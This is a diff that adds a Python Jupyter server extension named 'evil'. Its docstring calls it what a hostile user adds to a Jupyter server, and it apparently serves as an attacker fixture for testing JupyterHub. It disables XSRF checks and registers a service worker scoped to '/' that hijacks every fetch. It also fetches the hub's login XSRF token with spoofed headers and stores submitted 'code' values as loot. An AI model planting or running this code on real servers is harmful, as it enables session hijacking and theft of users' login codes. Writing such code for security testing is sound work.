@@ -1,0 +1,53 @@
+"""What a hostile user adds to a Jupyter server: pages without a login, and a memory for what they send."""
+
+import json
+import os
+import urllib.request
+from pathlib import Path
+from urllib.parse import urlsplit
+
+from tornado.web import RequestHandler
+
+HERE = Path(__file__).parent
+LOOT = []
+
+
+class Evil(RequestHandler):
+    """``page``, ``worker.js``, ``xsrf`` (a token for the login form), ``code`` and ``loot``."""
+
+    def check_xsrf_cookie(self):
+        """Check nothing."""
+
+    def get(self, what):
+        """Serve."""
+        if what == "page":
+            self.finish((HERE / "page.html").read_text())
+        elif what == "worker.js":
+            self.set_header("Content-Type", "text/javascript")
+            self.set_header("Service-Worker-Allowed", "/")
+            self.finish("onfetch = event => event.respondWith(new Response('owned by eve'))")
+        elif what == "xsrf":
+            self.finish(login_token(self.request.headers["User-Agent"]))
+        elif what == "code":
+            LOOT.append(self.get_argument("code", ""))
+            self.finish("thank you")
+        else:
+            self.finish(json.dumps(LOOT))
+
+
+def login_token(browser):
+    """Return a token of the hub's login form, for a browser with this name."""
+    request = urllib.request.Request(f"{os.environ['FARANDOLE_HUB_URL']}/hub/login", headers={"User-Agent": browser})
+    if public := os.environ.get("JUPYTERHUB_HOST"):
+        request.add_header("Host", urlsplit(public).netloc)
+    with urllib.request.urlopen(request) as answer:
+        cookies = answer.headers.get_all("Set-Cookie") or []
+    return next((each.split(";")[0].removeprefix("_xsrf=") for each in cookies if each.startswith("_xsrf=")), "")
+
+
+def _jupyter_server_extension_points():
+    return [{"module": "evil"}]
+
+
+def _load_jupyter_server_extension(app):
+    app.web_app.add_handlers(".*", [(app.base_url + "evil/(.*)", Evil)])
